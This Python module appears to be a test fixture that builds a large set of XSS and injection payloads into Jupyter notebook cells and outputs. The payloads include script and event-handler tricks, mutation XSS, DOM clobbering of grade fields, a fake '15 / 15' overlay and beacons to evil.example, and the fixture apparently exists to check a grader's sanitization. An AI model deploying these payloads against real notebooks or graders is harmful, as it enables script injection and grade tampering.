"""What a hostile student writes into a notebook to act in the browser of whoever reads it."""

import base64

RUN = "window.pwned=(window.pwned||0)+1"
OUTSIDE = "http://evil.example"  # nothing is there; a request to it is the offence
HTML_FILE = f"<script>{RUN}</script>"


def _encoded(text):
    return base64.b64encode(text.encode()).decode()


SVG = {
    "script": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
    "onload": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><rect/></svg>",
    "foreign object": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body "
    f"xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject></svg>",
    "outside image": "<svg xmlns='http://www.w3.org/2000/svg' "
    f"xmlns:x='http://www.w3.org/1999/xlink'><image x:href='{OUTSIDE}/svg.png'/></svg>",
    "outside style": "<svg xmlns='http://www.w3.org/2000/svg'><style>@import "
    f"url({OUTSIDE}/svg.css);</style><rect/></svg>",
    "set": f"<svg xmlns='http://www.w3.org/2000/svg'><a><set attributeName='href' "
    f"to='javascript:{RUN}'/><text y='20'>x</text></a></svg>",
    "broken": f"<svg><script>{RUN}</script>",
}

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from outside": f"<script src='{OUTSIDE}/x.js'></script>",
    "script without a scheme": "<script src='//evil.example/x.js'></script>",
    "module": f"<script type=module>{RUN}</script>",
    "mathjax configuration": f"<script type='text/x-mathjax-config'>{RUN}</script>",
    "onerror": f"<img src=x: onerror='{RUN}'>",
    "onerror with slashes": f"<img/src=x:/onerror={RUN}>",
    "onload": f"<body onload='{RUN}'>",
    "ontoggle": f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    "onfocus": f"<input autofocus onfocus='{RUN}'>",
    "onmouseover": f"<b onmouseover='{RUN}'>x</b>",
    "onanimationstart": "<style>@keyframes x{}</style>"
    f"<b style='animation-name:x' onanimationstart='{RUN}'>x</b>",
    "javascript link": f"<a href='javascript:{RUN}'>x</a>",
    "javascript link, entities": f"<a href='java&#x09;script&colon;{RUN}'>x</a>",
    "javascript link, control": f"<a href='\x01javascript:{RUN}'>x</a>",
    "data link": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "link outside": f"<a href='{OUTSIDE}/link'>x</a>",
    "ping": f"<a href='#' ping='{OUTSIDE}/ping'>x</a>",
    "iframe": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "iframe outside": f"<iframe src='{OUTSIDE}/frame'></iframe>",
    "srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data='data:text/html;base64,{_encoded(HTML_FILE)}'></object>",
    "object outside": f"<object data='{OUTSIDE}/object'></object>",
    "embed": f"<embed src='{OUTSIDE}/embed'>",
    "svg script": SVG["script"],
    "svg onload": SVG["onload"],
    "svg animate": f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='{OUTSIDE}/use.svg#x'/></svg>",
    "image outside": f"<img src='{OUTSIDE}/seen.png'>",
    "image set outside": f"<img srcset='{OUTSIDE}/seen2.png 1x'>",
    "picture outside": f"<picture><source srcset='{OUTSIDE}/seen3.png'><img></picture>",
    "video poster": f"<video poster='{OUTSIDE}/poster.png'></video>",
    "audio": f"<audio autoplay src='{OUTSIDE}/a.mp3'></audio>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={OUTSIDE}/refresh'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "link stylesheet": f"<link rel=stylesheet href='{OUTSIDE}/x.css'>",
    "link prefetch": f"<link rel=preload as=image href='{OUTSIDE}/pre.png'>",
    "base": f"<base href='{OUTSIDE}/base/'>",
    "style url": f"<style>body{{background:url({OUTSIDE}/style.png)}}</style><p>x</p>",
    "style import": f"<style>@import '{OUTSIDE}/import.css';</style>",
    "css url": f"<p style='background:url({OUTSIDE}/css.png)'>x</p>",
    "css url, escaped": f"<p style='background:u\\72l({OUTSIDE}/css2.png)'>x</p>",
    "css image set": f"<p style='background:image-set(\"{OUTSIDE}/css3.png\" 1x)'>x</p>",
    "css overlay": "<p style='position:fixed;inset:0;z-index:99999;background:#fff'>15 / 15</p>",
    "css nested too deep": f"<p style='position:fixed;color:{'rgb(' * 400}'>x</p>",
    "form": f"<form action='{OUTSIDE}/form'><input name=a><button>send</button></form>",
    "form action": f"<button form=f formaction='javascript:{RUN}'>x</button><form id=f></form>",
    "isindex": f"<isindex action='javascript:{RUN}' type=image>",
    "clobbering": "<form id=submission_id name=base_url><input id=attributes name=body></form>",
    "clobbering the score": "<input class='score tabbable' id='manual' value=5>",
    "comment": f"<!--><script>{RUN}</script-->",
    "comment, closed oddly": f"<!-- --!><img src=x: onerror='{RUN}'> -->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "processing instruction": f"<?xml-stylesheet href='{OUTSIDE}/x.xsl'?><script>{RUN}</script>",
    "noscript": f"<noscript><p title='</noscript><img src=x: onerror={RUN}>'></noscript>",
    "textarea": f"</textarea><img src=x: onerror='{RUN}'>",
    "title": f"<title><a title='</title><img src=x: onerror={RUN}>'></title>",
    "template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "xmp": f"<xmp><p title='</xmp><img src=x: onerror={RUN}>'>",
    "plaintext": f"</pre></div></main><script>{RUN}</script>",
    "mathml link": f"<math href='javascript:{RUN}'><mi>CLICK</mi></math>",
    "mathml annotation": "<math><annotation-xml encoding='text/html'>"
    f"<img src=x: onerror='{RUN}'></annotation-xml></math>",
    "mutation, mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x: onerror={RUN}&gt;'>",
    "mutation, form": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src=x: onerror='{RUN}'>",
    "mutation, select": f"<select><svg><style><img src=x: onerror='{RUN}'></style></svg></select>",
    "mutation, namespace": "<svg></p><style><a id='</style>"
    f"<img src=x: onerror={RUN}>'></a></style></svg>",
    "nesting": "<div>" * 600 + f"<img src=x: onerror='{RUN}'>",
    "nesting beyond all": "<div>" * 200_000,
    "half a pair": f"<p>\ud800</p><img src=x: onerror='{RUN}'>",
    "nul": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x: one\0rror='{RUN}'>",
    "svg as image": f"<img src='data:image/svg+xml;base64,{_encoded(SVG['script'])}'>",
    "html as image": f"<img src='data:text/html;base64,{_encoded(HTML_FILE)}'>",
}

MARKDOWN = {
    "link": f"[x](javascript:{RUN})",
    "link, capitals and entity": f"[x](JaVaScRiPt&colon;{RUN})",
    "link, reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "link outside": f"[x]({OUTSIDE}/md-link)",
    "link to formgrader": "[x](/formgrader/?path=/tmp) [y](../../../formgrader/api/grades)",
    "image outside": f"![x]({OUTSIDE}/md.png)",
    "image with a title": f"![x](x: \"'onerror='{RUN}\")",
    "image, reference": f"![x][z]\n\n[z]: {OUTSIDE}/ref.png",
    "attachment": "![x](attachment:evil.png)",
    "code": f'```"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```',
    "inline code": f"`</code><script>{RUN}</script>`",
    "formula text": f"$\\text{{<img src=x: onerror='{RUN}'>}}$",
    "formula link": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "formula block": f"$$</math><script>{RUN}</script>$$",
    "formula environment": f"\\begin{{align}}\n</math><script>{RUN}</script>\n\\end{{align}}",
    "formula class": "$\\class{score}{x} \\style{position:fixed}{x}$",
    "formula unfinished": f"$\\left( <img src=x: onerror='{RUN}'>$",
    "mermaid": f"```mermaid\ngraph TD; A[\"<img src=x: onerror='{RUN}'>\"]\n```",
    "table": f"| a |\n|---|\n| <img src=x: onerror='{RUN}'> |",
    "heading": f"# <img src=x: onerror='{RUN}'> {{#submission_id}}",
    "nested quotes": "> " * 3000 + "x",
    "open brackets": "[" * 20_000,
}

ATTACHMENT = {"evil.png": {"image/png": f'"><script>{RUN}</script>', "text/html": HTML["script"]}}

DATA = {
    "javascript": {"application/javascript": RUN},
    "javascript, other name": {"text/javascript": RUN},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}"}},
    "vega": {"application/vnd.vegalite.v5+json": {"data": {"url": f"{OUTSIDE}/vega"}}},
    "mermaid": {"text/vnd.mermaid": f"graph TD; A[<img src=x: onerror='{RUN}'>]"},
    "pdf": {"application/pdf": _encoded("%PDF-1.4")},
    "markdown": {"text/markdown": f"<script>{RUN}</script>[x](javascript:{RUN})"},
    "latex": {"text/latex": f"$$</math><script>{RUN}</script>$$"},
    "invalid base64": {"image/png": f'"><script>{RUN}</script>'},
    "html as png": {"image/png": _encoded(HTML["script"])},
    "attribute in jpeg": {"image/jpeg": f'AAAA" onerror="{RUN}'},
    "unknown": {f'text/html"><script>{RUN}</script>': HTML["script"]},
}


def outputs():
    """Return every attack as outputs of a code cell, each by each kind of output that shows it."""
    shown = [{"text/html": text} for text in HTML.values()]
    shown += [{"image/svg+xml": text} for text in SVG.values()]
    shown += list(DATA.values())
    texts = [text for text in HTML.values() if len(text) < 5000]
    isolated = {"text/html": {"isolated": True}, "image/png": {"alt": f"'\"><b onclick={RUN}>"}}
    return [
        *({"output_type": "display_data", "data": one, "metadata": {}} for one in shown),
        *({"output_type": "display_data", "data": one, "metadata": isolated} for one in shown),
        *({"output_type": "stream", "name": "stdout", "text": one} for one in texts),
        *(
            {"output_type": "stream", "name": f"<script>{RUN}</script>", "text": one}
            for one in texts
        ),
        *(
            {"output_type": "error", "ename": one, "evalue": one, "traceback": [f"\x1b[31m{one}"]}
            for one in texts
        ),
        {"output_type": "execute_result", "execution_count": f"<script>{RUN}</script>", "data": {}},
        {"output_type": f"<script>{RUN}</script>"},
    ]


def cells():
    """Return every attack as cells of a notebook."""
    sources = [*HTML.values(), *MARKDOWN.values()]
    return [
        *(
            {"cell_type": "markdown", "source": one, "metadata": {}, "attachments": ATTACHMENT}
            for one in sources
        ),
        {
            "cell_type": "code",
            "source": f"</pre><script>{RUN}</script>",
            "metadata": {"tags": [f'"><script>{RUN}</script>'], "magics_language": "html"},
            "execution_count": f"<script>{RUN}</script>",
            "outputs": outputs(),
        },
        {"cell_type": "raw", "source": HTML["script"], "metadata": {"raw_mimetype": "text/html"}},
        {"cell_type": "raw", "source": HTML["script"], "metadata": {"raw_mimetype": ""}},
        {"cell_type": HTML["script"], "source": HTML["script"], "metadata": {}},
    ]
